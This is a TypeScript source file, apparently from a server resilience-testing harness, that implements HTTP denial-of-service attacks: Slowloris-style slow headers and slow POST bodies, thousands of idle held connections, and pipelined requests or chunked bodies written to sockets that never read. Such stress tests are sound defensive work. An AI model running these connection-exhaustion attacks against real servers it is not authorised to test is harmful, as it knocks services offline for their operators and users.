/** Attacks that hold connections: many of them, slow ones, deaf ones. */
import type * as net from "node:net"
import type { Attack, Means } from "../Attack.ts"
import { closeAll, connect, isOver, pause, repeatedly, send } from "../sockets.ts"

/** So many connections; one that is closed is opened again. */
const hold = async (means: Means, count: number, begin: string, drip: string | null): Promise<void> => {
  const sockets = new Set<net.Socket>()
  const open = async () => {
    const socket = await connect(means)
    if (socket.destroyed) return
    sockets.add(socket)
    socket.resume().once("close", () => sockets.delete(socket))
    if (begin !== "") send(means, socket, begin)
  }
  while (!isOver(means)) {
    const lacking = Math.min(250, count - sockets.size)
    await Promise.all(Array.from({ length: lacking }, open))
    if (drip !== null) for (const socket of sockets) send(means, socket, drip)
    await pause(100)
  }
  closeAll(sockets)
}

const host = "Host: x\r\n"

/** Writes and never reads. */
const deaf = async (means: Means, text: string): Promise<void> => {
  const socket = await connect(means)
  socket.pause()
  send(means, socket, text)
  const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()))
  await Promise.race([closed, pause(2_000)])
  socket.destroy()
}

/** Bodies that wait behind answers that nobody reads, each in a thousand chunks. */
const waitingBodies =
  `GET /docs HTTP/1.1\r\n${host}\r\n`.repeat(12) +
  `POST /auth HTTP/1.1\r\n${host}Transfer-Encoding: chunked\r\n\r\n${"1\r\na\r\n".repeat(1_000)}0\r\n\r\n`.repeat(32)

export const connectionAttacks: ReadonlyArray<Attack> = [
  { name: "slow headers, 500", run: (means) => hold(means, 500, `GET / HTTP/1.1\r\n${host}X-A: `, "a") },
  {
    name: "slow bodies, 500",
    run: (means) => hold(means, 500, `POST /auth HTTP/1.1\r\n${host}Content-Length: 5000\r\n\r\n{`, " ")
  },
  { name: "idle connections, 5,000", run: (means) => hold(means, 5_000, "", null) },
  {
    name: "pipelined and unread, 40 x 2,000",
    run: (means) => repeatedly(means, 40, () => deaf(means, `GET /docs HTTP/1.1\r\n${host}\r\n`.repeat(2_000)))
  },
  {
    name: "waiting bodies in small chunks, 100",
    run: (means) => repeatedly(means, 100, () => deaf(means, waitingBodies))
  },
  {
    name: "pipelined and read, 8 x 2,000",
    run: (means) =>
      repeatedly(means, 8, async () => {
        const socket = await connect(means)
        socket.resume()
        send(means, socket, `GET /nothing HTTP/1.1\r\n${host}\r\n`.repeat(2_000))
        await pause(1_000)
        socket.destroy()
      })
  }
]
